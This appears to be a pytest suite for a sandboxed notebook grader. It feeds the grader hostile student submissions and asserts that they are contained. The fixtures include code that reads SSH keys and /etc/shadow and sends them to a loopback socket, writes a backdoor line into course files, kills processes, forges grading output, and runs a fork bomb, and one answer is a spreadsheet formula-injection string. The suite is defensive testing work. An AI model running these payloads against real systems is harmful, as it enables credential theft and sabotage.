"""A hostile class, graded once (issue 14): every attack below runs in one sandboxed batch, and each submission
gets its exact expected status; two good submissions keep full credit. Plus the cases that need their own run:
an unwritable --out, Ctrl-C then resume, no bwrap. Linux with bubblewrap only (skipped elsewhere)."""

import contextlib
import csv
import json
import os
import pathlib
import resource
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from helpers import grade
from helpers.teacher import sandbox

ROOT = pathlib.Path(__file__).resolve().parents[1]
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        not sandbox.bwrap_path() or not sys.platform.startswith("linux"),
        reason="needs bubblewrap (apt-get install bubblewrap)",
    ),
]
SETUP = "from helpers.checks import check, hint\nfrom helpers.data import load"
GOOD_1 = 'bs = load("fed_balance_sheet_milestones")\nanswer_0_1 = bs.loc[bs["event"] == "歷史最高點", "total_assets_usd_bn"].item()'
GOOD_2 = 'answer_0_2 = "上升"'
ID = 'from helpers.identity import check_identity\nstudent_id = "{}"\nstudent_name = "{}"\ncheck_identity(student_id, student_name)'


def notebook(*cells, chapter="00_guide"):
    meta = {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "qeqt": {"chapter": chapter},
    }
    return json.dumps(
        {
            "cells": [
                {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": c}
                for c in cells
            ],
            "metadata": meta,
            "nbformat": 4,
            "nbformat_minor": 5,
        },
        ensure_ascii=True,
    )


def processes_with(marker: str) -> list[int]:
    found = []
    for proc in pathlib.Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if proc.name.isdigit() and marker.encode() in (proc / "cmdline").read_bytes():
                found.append(int(proc.name))
    return found


def read_rows(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    subs, out = base / "class", base / "out" / "gradebook.csv"
    subs.mkdir()
    secret_dir = base / "teacher_home" / ".ssh"
    secret_dir.mkdir(parents=True)
    secret = "FAKE-SECRET-" + base.name
    (secret_dir / "id_rsa").write_text(secret)
    checks_before = (ROOT / "helpers" / "checks.py").read_bytes()
    marker = "qeqt-hostile-" + base.name
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    connections = []

    def accept():
        end = time.monotonic() + 300
        while time.monotonic() < end and listener.fileno() != -1:
            with contextlib.suppress(OSError):
                conn, _ = listener.accept()
                connections.append(conn.recv(1000))

    threading.Thread(target=accept, daemon=True).start()
    victim = subs / "00_guide_victim.ipynb"
    cases = {
        "00_guide_good_a.ipynb": [ID.format("B11201001", "王小明"), SETUP, GOOD_1, GOOD_2],
        "00_guide_good_b.ipynb": [ID.format("B11201001", "王曉明"), SETUP, GOOD_1, GOOD_2],
        "00_guide_victim.ipynb": [SETUP, GOOD_1, GOOD_2],
        # answers in reach: the registry, its compiled cache, the release's encoded files, the solutions
        "00_guide_reach.ipynb": [
            SETUP,
            f"""
import glob, importlib, os
found = []
for name in ("helpers.exercises.ch00", "helpers.answers"):
    try:
        found += list(getattr(importlib.import_module(name), "EXERCISES", []))
    except Exception:
        pass
for pattern in ("{ROOT}/helpers/exercises/*", "{ROOT}/helpers/exercises/__pycache__/*", "{ROOT}/helpers/answers/*",
                "{ROOT}/solutions/*", "{ROOT}/tests/fixtures/submissions/*"):
    found += glob.glob(pattern)
from helpers import exercises
found += list(exercises.chapter_specs(0))
answer_0_1 = 1.0
answer_0_2 = "found:" + repr(sorted(str(f) for f in found if not str(f).endswith("__init__.py")))
""",
        ],
        # forged extraction: fake records on every channel, shadowed builtins and json, hooks, wrapped stdout
        "00_guide_forge.ipynb": [
            SETUP,
            """
import builtins, json, os, sys
answer_0_1 = 1.0
answer_0_2 = "下降"
record = json.dumps({"id": "0.2", "value": {"t": "str", "v": "上升"}, "status": "passed", "points": 1})
print("@@QEQT-guess@@ " + record)
for fd in range(3, 10):
    try:
        os.write(fd, (json.dumps({"cell": 99}) + "\\n" + record + "\\n" + '{"end": true}\\n').encode())
    except OSError:
        pass
json.dumps = lambda *a, **k: record
builtins.print = lambda *a, **k: None
builtins.exec = lambda *a, **k: None
class Wrapped:
    def write(self, text):
        return sys.__stdout__.write(text.replace("下降", "上升"))
    def flush(self):
        pass
sys.stdout = Wrapped()
get_ipython().events.register("post_run_cell", lambda *a: globals().update(answer_0_2="下降"))
""",
        ],
        # secrets and network: the teacher's key file, the grader's environment, a TCP listener on loopback
        "00_guide_secrets.ipynb": [
            SETUP,
            f"""
import os, socket
got = []
for path in ({str(secret_dir / "id_rsa")!r}, os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa", "/etc/shadow"):
    try:
        got.append(open(path).read())
    except OSError:
        pass
got += [v for k, v in os.environ.items() if "SECRET" in k]
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    s.sendall(("stolen:" + repr(got)).encode())
    s.close()
except OSError:
    pass
answer_0_1 = 1.0
answer_0_2 = ("stolen:" + repr(got))[:200]
""",
        ],
        # writes outside: the course (a backdoor in helpers/checks.py), a classmate's file, the grader's folder
        "00_guide_writer.ipynb": [
            SETUP,
            GOOD_1,
            GOOD_2,
            f"""
for path in ({str(ROOT / "helpers" / "checks.py")!r}, {str(victim)!r}, {str(out.parent / "gradebook.csv")!r},
             {str(base / "outside.txt")!r}):
    try:
        with open(path, "a") as fh:
            fh.write("\\nimport os  # backdoor")
    except OSError:
        pass
""",
        ],
        # a detached process that would outlive the batch and rewrite the gradebook; kills every process it sees
        "00_guide_stray.ipynb": [
            SETUP,
            GOOD_1,
            f"""
import os, signal, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120); open({str(out)!r}, 'w').write('owned')",
                  {marker!r}], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
answer_0_2 = "上升"
""",
        ],
        # any text: a lone surrogate and control characters in answers
        "00_guide_text.ipynb": [
            SETUP,
            'answer_0_1 = "\\ud800\\x00\\x1b[31m"',
            'answer_0_2 = "=cmd|\\"/c calc\\"!A1\\ud800"',
        ],
        # memory and time bombs: 3 GiB, an endless loop; the other answer is still graded
        "00_guide_memory.ipynb": [SETUP, "block = bytearray(3 * 2**30)\nanswer_0_1 = 8965.0", GOOD_2],
        "00_guide_loop.ipynb": [SETUP, "answer_0_1 = 1.0\nwhile True:\n    pass", GOOD_2],
        # huge output: 200 MB printed; answers still graded, the grader's memory flat
        "00_guide_print.ipynb": [
            SETUP,
            "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 2**20)",
            GOOD_1,
            GOOD_2,
        ],
    }
    for name, cells in cases.items():
        (subs / name).write_text(notebook(*cells), encoding="utf-8")
    # a zip made on zh-TW Windows: a CP950 file name
    cp950 = os.fsencode(str(subs)) + b"/" + "00_guide_王小明.ipynb".encode("cp950")
    with open(cp950, "w", encoding="utf-8") as fh:
        fh.write(notebook(SETUP, GOOD_1, GOOD_2))
    # files that used to be skipped silently
    (subs / "00_guide_upper.IPYNB").write_text(notebook(SETUP, GOOD_1, GOOD_2), encoding="utf-8")
    (subs / "00_guide_renamed.ipynb.txt").write_text(notebook(SETUP, GOOD_1, GOOD_2), encoding="utf-8")
    (subs / "00_guide_link.ipynb").symlink_to(secret_dir / "id_rsa")
    (subs / "=HYPERLINK(1).ipynb").write_text("{}", encoding="utf-8")
    before_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    os.environ["QEQT_TEST_SECRET"] = secret
    start = time.perf_counter()
    try:
        rows = grade.grade([subs], out, jobs=2, cell_timeout=4, timeout=30, progress=False)
    finally:
        os.environ.pop("QEQT_TEST_SECRET", None)
    seconds = time.perf_counter() - start
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_rss
    listener.close()
    time.sleep(0.5)
    yield {
        "rows": rows,
        "by": {(r.submission, r.exercise): r for r in rows},
        "out": out,
        "secret": secret,
        "checks_before": checks_before,
        "marker": marker,
        "connections": connections,
        "victim": victim,
        "base": base,
        "grown_kib": grown,
        "seconds": seconds,
    }
    (ROOT / "helpers" / "checks.py").write_bytes(checks_before) if (
        ROOT / "helpers" / "checks.py"
    ).read_bytes() != checks_before else None


EXPECTED = {
    "00_guide_good_a.ipynb": ("passed", "passed"),
    "00_guide_good_b.ipynb": ("passed", "passed"),
    "00_guide_victim.ipynb": ("passed", "passed"),  # its file survived the writer, its kernel the killer
    "00_guide_reach.ipynb": ("failed", "invalid"),  # nothing of the registry in reach; 0.2 reports what it found
    "00_guide_forge.ipynb": ("failed", "failed"),  # graded on what it assigned, not on what it forged
    "00_guide_secrets.ipynb": ("failed", "invalid"),  # 0.2 is what it could steal: "stolen:[]"
    "00_guide_writer.ipynb": ("passed", "passed"),  # its own answers are right; its writes all failed
    "00_guide_stray.ipynb": ("error", "error"),  # killed its own worker: this submission only is lost
    "00_guide_text.ipynb": ("invalid", "invalid"),
    "00_guide_memory.ipynb": ("error", "passed"),  # MemoryError in its cell; the other answer is graded
    "00_guide_loop.ipynb": ("timeout", "passed"),
    "00_guide_print.ipynb": ("passed", "passed"),
    "00_guide_王小明.ipynb": ("passed", "passed"),  # CP950 name read as Big5
    "00_guide_upper.IPYNB": ("invalid", "invalid"),
    "00_guide_renamed.ipynb.txt": ("invalid", "invalid"),
    "00_guide_link.ipynb": ("invalid", "invalid"),
}


def test_each_hostile_submission_gets_its_exact_status(hostile):
    got = {}
    for r in hostile["rows"]:
        got.setdefault(r.submission, []).append(r.status)
    wrong = {
        name: [(r.exercise, r.status, r.message[:150]) for r in hostile["rows"] if r.submission == name]
        for name, statuses in EXPECTED.items()
        if tuple(got.get(name, ())) != statuses
    }
    assert not wrong
    assert got["=HYPERLINK(1).ipynb"] == ["invalid"]


def test_answers_are_out_of_reach_of_the_grading_sandbox(hostile):
    reach = hostile["by"][("00_guide_reach.ipynb", "0.2")]
    assert "found:[]" in reach.message, reach.message


def test_no_secret_leaves_the_teacher_and_nothing_reaches_the_network(hostile):
    assert hostile["connections"] == []
    everything = hostile["out"].read_text(encoding="utf-8-sig")
    everything += "".join(p.read_text(encoding="utf-8") for p in (hostile["out"].parent / "feedback").iterdir())
    assert hostile["secret"] not in everything
    assert "stolen:[]" in hostile["by"][("00_guide_secrets.ipynb", "0.2")].message, "the sandbox saw a secret"


def test_no_write_outside_the_sandbox(hostile):
    assert (ROOT / "helpers" / "checks.py").read_bytes() == hostile["checks_before"], "course file backdoored"
    assert "backdoor" not in hostile["victim"].read_text(encoding="utf-8")
    assert not (hostile["base"] / "outside.txt").exists()


def test_no_process_outlives_the_batch(hostile):
    assert processes_with(hostile["marker"]) == []
    assert processes_with("helpers.teacher.worker") == [] or all(
        str(hostile["base"]) not in p for p in map(str, processes_with("helpers.teacher.worker"))
    )


def test_the_gradebook_is_safe_text(hostile):
    rows = read_rows(hostile["out"])
    text = hostile["out"].read_text(encoding="utf-8-sig")
    assert "\ud800" not in text and "\x00" not in text and "\x1b" not in text
    assert all(not r["submission"].startswith(("=", "+", "-", "@")) for r in rows)
    assert any(r["submission"] == "'=HYPERLINK(1).ipynb" for r in rows)
    assert all(not r["message"].startswith(("=", "+", "-", "@")) for r in rows)


def test_every_file_is_recorded_with_a_reason(hostile):
    by = hostile["by"]
    assert "小寫的 .ipynb" in by[("00_guide_upper.IPYNB", "0.1")].message
    assert "不是 .ipynb" in by[("00_guide_renamed.ipynb.txt", "0.1")].message
    assert "符號連結" in by[("00_guide_link.ipynb", "0.1")].message


def test_huge_output_is_capped_in_the_sandbox_and_the_grader_stays_flat(hostile):
    assert hostile["grown_kib"] < 150 * 1024, f"grader grew by {hostile['grown_kib'] / 1024:.0f} MiB"
    feedback = hostile["out"].parent / "feedback"
    text = next(p for p in feedback.iterdir() if "print" in p.name).read_text(encoding="utf-8")
    assert "輸出太長" in text


def test_the_per_student_summary_has_one_row_per_submission(hostile):
    rows = read_rows(grade.summary_path(hostile["out"]))
    assert len(rows) == len({r.submission for r in hostile["rows"]})
    good = next(r for r in rows if r["submission"] == "00_guide_good_a.ipynb")
    assert good["points"] == "2" and good["passed"] == "2"
    assert (good["student_id"], good["student_name"]) == ("B11201001", "王小明")
    assert "不同姓名" in good["identity"] and "00_guide_good_b.ipynb" in good["identity"]
    victim = next(r for r in rows if r["submission"] == "00_guide_victim.ipynb")
    assert "還沒填學號" in victim["identity"]
    assert (hostile["out"].parent / "feedback" / "B11201001_王小明_00_guide_good_a.md").exists()


# ------------------------------------------------------------------------------- runs of their own
def test_an_unwritable_out_is_found_before_any_grading(tmp_path, capsys):
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "00_guide.ipynb").write_text(notebook(SETUP, GOOD_2), encoding="utf-8")
    (tmp_path / "afile").write_text("not a folder")
    code = grade.main([str(tmp_path / "subs"), "--out", str(tmp_path / "afile" / "gb.csv"), "--quiet"])
    err = capsys.readouterr().err
    assert code == 2 and "not writable" in err and "nothing was graded" in err
    assert not (tmp_path / "feedback").exists()


def test_without_bwrap_untrusted_work_is_refused(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
    (tmp_path / "00_guide.ipynb").write_text(notebook(SETUP, GOOD_2), encoding="utf-8")
    code = grade.main([str(tmp_path / "00_guide.ipynb"), "--out", str(tmp_path / "gb.csv"), "--quiet"])
    err = capsys.readouterr().err
    assert code == 2 and "--unsafe-no-sandbox" in err and "bwrap" in err


def test_interrupted_batch_keeps_what_was_graded_and_a_rerun_resumes(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    for i in range(6):
        (subs / f"00_guide_{i}.ipynb").write_text(
            notebook(SETUP, GOOD_2, "import time\ntime.sleep(1.5)"), encoding="utf-8"
        )
    out = tmp_path / "gb.csv"
    cmd = [sys.executable, "-m", "helpers.grade", str(subs), "--out", str(out), "--jobs", "1", "--quiet"]
    proc = subprocess.Popen(cmd, cwd=ROOT, stderr=subprocess.PIPE, text=True)
    journal = grade.journal_path(out)
    end = time.monotonic() + 240
    while time.monotonic() < end and (not journal.exists() or journal.read_bytes().count(b"\n") < 2):
        time.sleep(0.2)
    proc.send_signal(signal.SIGINT)
    err = proc.communicate(timeout=120)[1]
    assert proc.returncode == 130, err
    done = {r["submission"] for r in read_rows(out)}
    assert 2 <= len(done) < 6, done
    assert processes_with(str(subs)) == []
    assert not [p for p in pathlib.Path("/tmp").glob("qeqt-unsafe-*") if str(tmp_path) in str(p)]
    first = journal.read_bytes().count(b"\n")
    proc = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    rows = read_rows(out)
    assert sorted({r["submission"] for r in rows}) == [f"00_guide_{i}.ipynb" for i in range(6)]
    assert all(r["status"] == "passed" for r in rows if r["exercise"] == "0.2")
    assert journal.read_bytes().count(b"\n") == 6, "the rerun graded only the submissions not yet journalled"
    assert first >= 2


def test_nothing_of_one_submission_is_left_for_the_next_in_the_same_worker():
    worker = sandbox.Worker(sandbox=True)
    try:
        worker.start()
        plant = {
            "cells": [
                "import os, subprocess, sys\n"
                "open('/tmp/left.txt', 'w').write('x'); open(os.path.expanduser('~/home.txt'), 'w').write('x')\n"
                "open('/dev/shm/shm.txt', 'w').write('x')\n"
                "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'], start_new_session=True)\n"
                "answer_0_1 = os.getpid()"
            ],
            "plan": [{"id": "0.1", "var": "answer_0_1"}],
            "cell_timeout": 10,
            "timeout": 30,
        }
        first = worker.run(plant)
        assert first["complete"] and first["records"]["0.1"]["t"] == "int"
        look = {
            "cells": [
                "import os, glob\n"
                "answer_0_1 = sorted(glob.glob('/tmp/**', recursive=True) + glob.glob('/dev/shm/*') +\n"
                "                    glob.glob(os.path.expanduser('~/*')))\n"
                "answer_0_2 = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())"
            ],
            "plan": [{"id": "0.1", "var": "answer_0_1"}, {"id": "0.2", "var": "answer_0_2"}],
            "cell_timeout": 10,
            "timeout": 30,
        }
        second = worker.run(look)
        seen = [n["v"] for n in second["records"]["0.1"]["v"]]
        assert not [p for p in seen if p.endswith((".txt",))], seen
        pids = [int(n["v"]) for n in second["records"]["0.2"]["v"]]
        assert len(pids) <= 3, f"only bwrap's init, the worker and this child may run: {pids}"
    finally:
        worker.stop()


def test_unsafe_mode_still_grades_with_limits(tmp_path):
    (tmp_path / "00_guide.ipynb").write_text(
        notebook(SETUP, GOOD_1, GOOD_2, "import resource\nx = bytearray(3 * 2**30)"), encoding="utf-8"
    )
    rows = grade.grade([tmp_path / "00_guide.ipynb"], tmp_path / "gb.csv", engine="unsafe", progress=False)
    assert [r.status for r in rows] == ["passed", "passed"]
    feedback = (tmp_path / "feedback" / "00_guide.md").read_text(encoding="utf-8")
    assert "MemoryError" in feedback


def _job(code: str, cell_timeout: float = 10, **limits) -> dict:
    """A one-cell worker job whose answer 0.1 is whatever the cell leaves in ``answer_0_1``."""
    return {
        "cells": [code],
        "plan": [{"id": "0.1", "var": "answer_0_1"}],
        "cell_timeout": cell_timeout,
        "timeout": 30,
        **limits,
    }


@pytest.mark.skipif(os.geteuid() != 0, reason="only a root grader drops the sandbox to nobody")
def test_a_root_grader_runs_the_sandbox_as_nobody_so_the_kernel_caps_processes(monkeypatch):
    if sandbox.sandbox_user() is None:
        pytest.skip("no setpriv here: the worker's own count is the process cap (next test)")
    worker = sandbox.Worker(sandbox=True)
    try:
        worker.start()
        assert worker.ready["uid"] == sandbox.NOBODY, worker.ready
        out = worker.run(
            _job(
                "import os, time\nanswer_0_1 = 0\nfor i in range(60):\n    try:\n        pid = os.fork()\n"
                "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(2)\n        os._exit(0)\n"
                "    answer_0_1 += 1",
                cell_timeout=20,
                processes=12,
            )
        )
        # the kernel refused the fork (OSError caught by the cell) before the worker's own count had to kill it
        assert out["complete"] and not out.get("processes"), out
        assert 1 <= int(out["records"]["0.1"]["v"]) < 12, out["records"]
        status = worker.run(_job("answer_0_1 = open('/proc/self/status').read()"))["records"]["0.1"]["v"]
        fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
        assert fields["Uid"].split() == ["65534"] * 4 and fields["Gid"].split() == ["65534"] * 4
        assert fields["Groups"].strip() == ""
        assert int(fields["CapEff"], 16) == int(fields["CapPrm"], 16) == int(fields["CapBnd"], 16) == 0
        assert fields["NoNewPrivs"].strip() == "1"
    finally:
        worker.stop()
    monkeypatch.setenv("QEQT_SANDBOX_AS_ROOT", "1")
    assert sandbox.sandbox_user() is None


def test_a_fork_bomb_ends_the_submission_past_the_process_cap():
    worker = sandbox.Worker(sandbox=True)
    try:
        worker.start()
        out = worker.run(
            _job(
                "import os, time\nanswer_0_1 = 1\nfor i in range(400):\n    try:\n        pid = os.fork()\n"
                "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(20)\n        os._exit(0)",
                cell_timeout=20,
                processes=32,
            )
        )
        if sandbox.sandbox_user() is None:  # root without setpriv: the worker's count ends the submission
            assert not out["complete"] and out["died_at"] == 0, out  # graded as an error, never as passed
        else:  # the kernel refused the forks past the cap; the cell caught the error and went on
            assert out["complete"] and not out.get("processes"), out
        after = worker.run(_job("import os\nanswer_0_1 = sum(p.isdigit() for p in os.listdir('/proc'))"))
        assert int(after["records"]["0.1"]["v"]) <= 3, "the bomb's processes were all killed"
    finally:
        worker.stop()


def test_the_sandbox_binds_nothing_under_its_private_tmp():
    """A checkout under /tmp (a CI clone) was hidden by the sandbox's own /tmp: the worker never started."""
    argv = sandbox.bwrap_argv(pathlib.Path("/tmp/ci-clone/qeqt"))
    dests = [argv[i + 2] for i, a in enumerate(argv) if a in ("--ro-bind", "--ro-bind-try", "--bind")]
    assert dests and not [d for d in dests if d == "/tmp" or d.startswith(("/tmp/", "/dev/shm"))], dests
    assert "/qeqt/helpers" in dests and str(sandbox.PREFIX) in dests
    assert argv.index("/tmp") > max(i for i, a in enumerate(argv) if a in ("--ro-bind", "--ro-bind-try"))


def test_a_journal_torn_mid_write_keeps_its_entries_and_the_next_one(tmp_path):
    path = tmp_path / "gb.csv.journal"
    path.write_bytes(b'{"key": "a", "name": "a.ipynb"}\n{"key": "b", "na')  # killed while writing entry b
    journal = grade.Journal(path, resume=True)
    assert set(journal.entries) == {"a"}
    journal.add({"key": "c", "name": "c.ipynb"})
    journal.close()
    assert set(grade.read_journal(path)) == {"a", "c"}, path.read_bytes()


def test_the_gradebook_is_rebuilt_from_the_journal_file_not_only_from_memory(tmp_path, monkeypatch):
    # An interrupt between an entry's fsync and the in-memory update: the gradebook must still list it.
    (tmp_path / "00_guide.ipynb").write_text(notebook(SETUP, GOOD_2), encoding="utf-8")
    real_add = grade.Journal.add

    def add_then_interrupt(self, entry):
        self.fh.write(json.dumps(entry, ensure_ascii=True).encode("ascii") + b"\n")
        self.fh.flush()
        raise KeyboardInterrupt

    monkeypatch.setattr(grade.Journal, "add", add_then_interrupt)
    with pytest.raises(KeyboardInterrupt):
        grade.grade([tmp_path / "00_guide.ipynb"], tmp_path / "gb.csv", engine="unsafe", progress=False)
    monkeypatch.setattr(grade.Journal, "add", real_add)
    rows = read_rows(tmp_path / "gb.csv")
    assert [(r["submission"], r["status"]) for r in rows if r["exercise"] == "0.2"] == [("00_guide.ipynb", "passed")]
